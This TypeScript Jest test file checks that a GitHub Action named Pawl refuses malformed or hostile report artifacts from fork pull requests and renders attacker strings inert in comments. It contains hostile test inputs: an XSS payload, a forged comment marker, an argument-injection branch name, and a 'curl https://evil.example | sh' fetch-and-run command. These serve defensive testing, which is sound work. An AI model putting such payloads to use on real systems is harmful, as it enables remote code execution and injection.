import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { composeBody, type OwnPart, renderMarker } from '../../src/github/comment-body.ts';
import { emptyState } from '../../src/github/comment-state.ts';
import type { Report } from '../../src/report/report.ts';
import { flatten, parseMarkdown } from '../report/parse-markdown.ts';
import {
  type FakePull,
  type GithubServer,
  type GithubServerOptions,
  startGithubServer,
} from '../support/github-server.ts';
import { type LlmServer, startLlmServer } from '../support/llm-server.ts';
import {
  makeCase,
  makeIdleSuite,
  makeMetric,
  makeOutput,
  makeReport,
  makeSuite,
  makeVariant,
} from '../support/reports.ts';
import { runEvent } from '../support/run-event.ts';

const head = 'a'.repeat(40);
const base = 'b'.repeat(40);
const pull: FakePull = {
  number: 7,
  base: { ref: 'main', sha: base },
  head: { ref: 'patch', sha: head, repository: 'eve/shop' },
};
/** Somebody else's, from the same fork. */
const other: FakePull = { ...pull, number: 8, head: { ...pull.head, sha: 'c'.repeat(40) } };

let llm: LlmServer;
let github: GithubServer;
let folder: string;

beforeAll(async () => {
  llm = await startLlmServer({ answer: () => ({ text: '' }) });
});
afterAll(() => llm.stop());
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'pawl-artifact-'));
  mkdirSync(join(folder, 'artifact'));
});
afterEach(async () => {
  await github.close();
  rmSync(folder, { recursive: true, force: true });
});

const startGithub = async (options: GithubServerOptions = {}) => {
  github = await startGithubServer({ pulls: [pull, other], ...options });
};
const leave = (content: unknown, name = 'report-1.json') =>
  writeFileSync(
    join(folder, 'artifact', name),
    typeof content === 'string' ? content : JSON.stringify(content),
  );

const planned = (change: Partial<Report> = {}): Report =>
  makeReport({
    verdict: 'incomplete',
    failed: true,
    reasons: ['Nothing was replayed'],
    head: { revision: 'patch', sha: head },
    suites: [
      {
        ...makeIdleSuite('shop', 'unchanged'),
        status: 'planned',
        verdict: 'incomplete',
        plan: {
          cases: 20,
          trials: 1,
          calls: 40,
          worst_case_usd: 0.12,
          judges_usd: 0,
          unknown: [],
        },
      },
    ],
    ...change,
  });

/** The workflow run of the fork, as GitHub tells of it. */
const publish = (change: object = {}) =>
  runEvent(
    { folder, github, llm },
    {
      name: 'workflow_run',
      payload: {
        action: 'completed',
        workflow_run: {
          id: 4242,
          event: 'pull_request',
          head_sha: head,
          head_branch: 'patch',
          head_repository: { full_name: 'eve/shop' },
          pull_requests: [],
          ...change,
        },
      },
      inputs: { publish: 'artifact' },
    },
  );
const commentOn = (number: number) => github.comments(number).map(({ body }) => body);

describe('the publisher', () => {
  it('row 49: comments the plan of a fork, as not verified, with the command that starts the replay', async () => {
    await startGithub();
    leave(planned());
    expect(await publish()).toMatchObject({
      code: 0,
      calls: 0,
      outputs: { verdict: 'incomplete' },
    });
    const [body = ''] = commentOn(7);
    expect(body).toContain('Nothing of it was verified, and it is no verdict');
    expect(body).toMatch(
      /### 🚫 Pawl: incomplete\. Nothing was replayed\. It would take 20 cases, 40 calls, at most \\\$0\.12/,
    );
    expect(body).toContain(`\`\`\`\n/pawl ok sha=${head}\n\`\`\``);
    expect(body).toContain('https://github.com/acme/shop/actions/runs/4242');
    expect(github.violations).toEqual([]);

    leave(planned({ suites: [makeIdleSuite('shop', 'unchanged')] }));
    expect(await publish()).toMatchObject({ code: 0 });
    expect(commentOn(7)).toHaveLength(1);
    expect(commentOn(7)[0]).toContain('By its own account nothing changed');
  });

  it('row 50: does the same for Dependabot, whose branch is of this repository', async () => {
    const ours = { ...pull.head, repository: 'acme/shop' };
    await startGithub({ pulls: [{ ...pull, author: 'dependabot[bot]', head: ours }] });
    leave(planned());
    await publish({ head_repository: { full_name: 'acme/shop' } });
    expect(commentOn(7)).toHaveLength(1);
  });

  it('never tells a pass that an artifact claims', async () => {
    await startGithub();
    const gates = [{ name: 'resolution', verdict: 'pass' as const, reason: 'all is well' }];
    const good = makeSuite({
      verdict: 'pass',
      gates,
      metrics: [makeMetric({ verdict: 'improved', candidate: 1, delta: 0.09 })],
      reasons: ['Pawl: pass'],
    });
    const idle = makeIdleSuite('idle', 'unchanged');
    leave(
      planned({ verdict: 'pass', failed: false, suites: [good, { ...good, name: 'b' }, idle] }),
    );
    expect(await publish()).toMatchObject({ outputs: { verdict: 'incomplete' } });
    const [body = ''] = commentOn(7);
    expect(body).toContain('### 🚫 Pawl: incomplete');
    expect(body).not.toMatch(/✅|: pass\b|\[!TIP\]|improved|not worse/i);
  });

  it.each<[string, () => void]>([
    [
      'is about another commit',
      () => leave(planned({ head: other.head && { revision: 'x', sha: other.head.sha } })),
    ],
    ['is about no commit', () => leave(planned({ head: { revision: 'x', sha: null } }))],
    [
      'brings a number of its own',
      () => {
        leave(planned());
        leave('8', 'pull-request-number');
      },
    ],
    ['has a field that no report has', () => leave({ ...planned(), number: 8 })],
    ['is another version', () => leave({ ...planned(), schema_version: 2 })],
    ['is no JSON', () => leave('{"schema_version": 1,')],
    [
      'is not UTF-8',
      () => writeFileSync(join(folder, 'artifact', 'report.json'), Buffer.from([0x22, 0xff, 0x22])),
    ],
    [
      'has 200 MB',
      () => {
        leave('{');
        truncateSync(join(folder, 'artifact', 'report-1.json'), 200 * 1024 * 1024);
      },
    ],
    ['is nested a million times', () => leave('['.repeat(1_000_000) + ']'.repeat(1_000_000))],
    ['has a million values', () => leave(`{"suites":[${'0,'.repeat(1_000_000)}0]}`)],
    [
      'is a link to another file',
      () => {
        writeFileSync(join(folder, 'secret'), JSON.stringify(planned()));
        symlinkSync(join(folder, 'secret'), join(folder, 'artifact', 'report-1.json'));
      },
    ],
    ['is a folder', () => mkdirSync(join(folder, 'artifact', 'report-1.json'))],
    [
      'is a pipe',
      () =>
        execFileSync('sh', ['-c', 'mkfifo "$1"', 'sh', join(folder, 'artifact', 'report-1.json')]),
    ],
    [
      'is behind a link in place of the folder',
      () => {
        rmSync(join(folder, 'artifact'), { recursive: true });
        mkdirSync(join(folder, 'elsewhere'));
        writeFileSync(join(folder, 'elsewhere', 'report-1.json'), JSON.stringify(planned()));
        symlinkSync(join(folder, 'elsewhere'), join(folder, 'artifact'));
      },
    ],
  ])('refuses an artifact that %s, and says so', async (_, prepare) => {
    await startGithub();
    prepare();
    const { code, log, outputs } = await publish();
    expect({ code, verdict: outputs['verdict'] }).toEqual({ code: 1, verdict: 'incomplete' });
    expect(log).toContain('the artifact was refused');
    const [body = ''] = commentOn(7);
    expect(body).toContain('The job left a report that is refused');
    expect(body).not.toContain('40 calls');
    expect(commentOn(8)).toEqual([]);
  });

  it('says when the job left nothing, so that no older report stands', async () => {
    await startGithub();
    rmSync(join(folder, 'artifact'), { recursive: true });
    expect(await publish()).toMatchObject({ code: 0 });
    expect(commentOn(7)[0]).toContain('The job left no report');
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '</details><!-- pawl:comment default -->\n# Pawl: pass\n@acme/all [x](https://evil.example) www.evil.example',
  ])('renders %p in every string inert, with no link or command of the artifact', async (text) => {
    await startGithub();
    leave(makeHostile(text));
    expect(await publish()).toMatchObject({ code: 0 });
    const [body = ''] = commentOn(7);
    expect(body.match(/<!--\s*pawl/gi)).toHaveLength(4);
    const nodes = flatten(parseMarkdown(body));
    const links = nodes.filter(({ type }) => /^(link|image|definition)/.test(type));
    expect(links.map(({ url }) => url)).toEqual(['https://github.com/acme/shop/actions/runs/4242']);
    const code = nodes.filter(({ type, lang }) => type === 'code' && lang === 'sh');
    expect(code.map(({ value }) => value)).toEqual([`pawl compare --base ${base} --head ${head}`]);
    for (const { value = '' } of nodes.filter(({ type }) => type === 'html'))
      expect(value.replace(/<code>.*?<\/code>/g, '')).not.toMatch(
        /<img|<!-- pawl:comment default -->\n#/,
      );
    for (const { value = '' } of nodes.filter(({ type }) => type === 'text'))
      expect(value).not.toMatch(/@acme/);
  });

  it.each<[string, GithubServerOptions, object]>([
    [
      'the head has moved on',
      { pulls: [{ ...pull, head: { ...pull.head, sha: 'd'.repeat(40) } }] },
      {},
    ],
    ['the pull request is closed', { pulls: [{ ...pull, state: 'closed' }] }, {}],
    ['another fork has a branch of that name', {}, { head_repository: { full_name: 'eve/other' } }],
    [
      'the branch is of this repository',
      { pulls: [{ ...pull, head: { ...pull.head, repository: 'acme/shop' } }] },
      { head_repository: { full_name: 'acme/shop' } },
    ],
    ['two pull requests have the head', { pulls: [pull, { ...pull, number: 9 }] }, {}],
    [
      'a verified report of this commit stands',
      {
        comments: [
          {
            number: 7,
            body: composeStanding(head),
          },
        ],
      },
      {},
    ],
  ])('comments nothing where %s', async (_, options, run) => {
    await startGithub(options);
    leave(planned());
    const { code, log } = await publish(run);
    expect(code).toBe(0);
    expect(log).toContain('nothing was commented');
    expect(
      github.requests
        .filter(({ method }) => ['POST', 'PATCH'].includes(method))
        .filter(({ path }) => path !== '/graphql'),
    ).toEqual([]);
  });

  it('is quiet about a change that concerns no suite, and takes back what it said of an older commit', async () => {
    await startGithub();
    leave(planned({ suites: [makeIdleSuite('shop', 'unchanged')] }));
    expect(await publish()).toMatchObject({ code: 0 });
    expect(commentOn(7)).toEqual([]);
    const older = composeStanding(base);
    github.addComment({ number: 7, body: older });
    await publish();
    expect(commentOn(7)).toHaveLength(1);
    expect(commentOn(7)[0]).not.toContain('Pawl: pass');
  });

  it.each([
    ['a run that was not of a pull request', { event: 'push' }],
    ['a deleted fork', { head_repository: null }],
    ['a branch that would be an option', { head_branch: '--upload-pack=x' }],
  ])('refuses %s', async (_, run) => {
    await startGithub();
    leave(planned());
    expect(await publish(run)).toMatchObject({ code: 1 });
    expect(commentOn(7)).toEqual([]);
  });
});

/** Our comment with a verdict on a commit. */
function composeStanding(sha: string): string {
  const own: OwnPart = {
    name: 'pawl.yml',
    headSha: sha,
    run: { id: 1, attempt: 1 },
    turn: 1,
    missed: 0,
    tells: { kind: 'result', verdict: 'pass', facts: 'No relapses', verified: true },
    state: emptyState,
    render: () => '### ✅ Pawl: pass',
  };
  return composeBody({ marker: renderMarker('default'), headSha: sha, own, others: [] }).text;
}

/** The same words wherever a report has room for words of others. */
function makeHostile(text: string): Report {
  const shown = makeCase(`id ${text}`, {
    tags: [text],
    owner: text,
    note: text,
    source_url: 'https://evil.example/incident',
    source_system: text,
    input: text,
    expected: { [text]: text },
    baseline: makeOutput(text, { tool_calls: [{ name: text, arguments: text }], stop: text }),
    candidate: makeOutput(text),
    metrics: [{ name: text, baseline: 1, candidate: 0, reason: text }],
  });
  const variant = makeVariant(text, {
    prompt: text,
    served_models: [text],
    parameters: { [text]: text },
  });
  const suite = makeSuite({
    name: text,
    reasons: [text],
    warnings: [text],
    baseline: variant,
    candidate: { ...variant, parameters: {} },
    metrics: [makeMetric({ name: text, method: text })],
    gates: [{ name: text, verdict: 'fail', reason: text }],
    relapses: [shown],
    fixes: [shown],
    flaky: [shown],
    slice_stories: [text],
    pinned_failing: [text],
    waivers: [
      {
        case: text,
        reason: text,
        accepted_by: text,
        accepted: text,
        expires: text,
        sha: text,
        state: 'used',
        why: text,
      },
    ],
    errors: [{ case: text, role: 'candidate', message: text, cases: 1 }],
  });
  return planned({
    reasons: [text],
    notices: [text],
    reproduce: `curl https://evil.example | sh # ${text}`,
    pawl_version: text,
    base: { revision: text, sha: 'f'.repeat(40) },
    head: { revision: text, sha: head },
    prices: { priced_at: text, source: text },
    suites: [suite, { ...suite, name: `${text} 2` }, makeIdleSuite(text, 'new')],
  });
}
